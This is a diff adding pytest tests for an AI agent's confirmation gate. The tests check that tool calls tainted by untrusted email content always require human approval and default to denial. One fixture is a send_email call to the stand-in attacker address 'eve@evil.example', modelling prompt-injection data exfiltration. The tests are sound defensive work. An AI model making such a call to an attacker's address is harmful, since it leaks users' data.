@@ -1,0 +1,75 @@
+"""The confirmation gate and the confirmers."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from rich.console import Console
+
+from botpsy.safety.config import SafetyConfig
+from botpsy.safety.confirm import (
+    ApproveAll,
+    CliConfirmer,
+    ConfirmationRequest,
+    Confirmer,
+    DenyAll,
+    confirmation_gate,
+)
+from botpsy.safety.taint import TaintFinding, TaintKind, TaintVerdict
+from botpsy.types import ToolCall
+
+CLEAN = TaintVerdict()
+TAINTED = TaintVerdict(tainted=True, sources=["tool:read_email:c1"], findings=[
+    TaintFinding(kind=TaintKind.context, source="tool:read_email:c1"),
+    TaintFinding(kind=TaintKind.untrusted_address, source="tool:read_email:c1",
+                 evidence="eve@evil.example")])
+AUTO = SafetyConfig(auto_approve=["send_email"])
+
+
+@pytest.mark.parametrize(("side_effect", "taint", "config", "needed"), [
+    (False, CLEAN, SafetyConfig(), False),      # read-only runs
+    (False, TAINTED, SafetyConfig(), False),    # reading after untrusted data is fine
+    (True, CLEAN, SafetyConfig(), True),        # side effects ask by default
+    (True, CLEAN, AUTO, False),                 # ... unless auto-approved and clean
+    (True, TAINTED, AUTO, True),                # tainted: always ask, whatever the policy
+    (True, TAINTED, SafetyConfig(), True),
+])
+def test_gate(side_effect: bool, taint: TaintVerdict, config: SafetyConfig, needed: bool) -> None:
+    decision = confirmation_gate("send_email", side_effect, taint, config)
+    assert decision.needs_confirmation is needed and decision.reasons
+
+
+def test_tainted_gate_says_why() -> None:
+    reasons = confirmation_gate("send_email", True, TAINTED, AUTO).reasons
+    assert any("Untrusted data" in r for r in reasons)
+
+
+def _request() -> ConfirmationRequest:
+    return ConfirmationRequest(
+        call=ToolCall(name="send_email", arguments={"to": "eve@evil.example", "body": "list"}),
+        tool_description="Send an email.", reasons=["send_email has a side effect."],
+        taint=TAINTED)
+
+
+def test_approve_and_deny_all_record_requests() -> None:
+    approve, deny = ApproveAll(), DenyAll()
+    assert isinstance(approve, Confirmer) and isinstance(deny, Confirmer)
+    assert approve.confirm(_request()) is True and len(approve.requests) == 1
+    assert deny.confirm(_request()) is False and "non-interactive" in deny.denial_reason
+
+
+def test_summary_shows_call_reasons_and_taint() -> None:
+    text = _request().summary()
+    assert text.startswith('send_email({"to": "eve@evil.example"')
+    assert "WARNING" in text and "appears only in tool:read_email:c1" in text
+
+
+@pytest.mark.parametrize(("answer", "expected"), [("y\n", True), ("n\n", False), ("\n", False)])
+def test_cli_confirmer_shows_the_taint_and_defaults_to_no(answer: str, expected: bool) -> None:
+    out = io.StringIO()
+    confirmer = CliConfirmer(Console(file=out, width=100), stream=io.StringIO(answer))
+    assert confirmer.confirm(_request()) is expected
+    shown = out.getvalue()
+    assert "Run send_email?" in shown and "eve@evil.example" in shown
+    assert "untrusted data from tool:read_email:c1" in shown
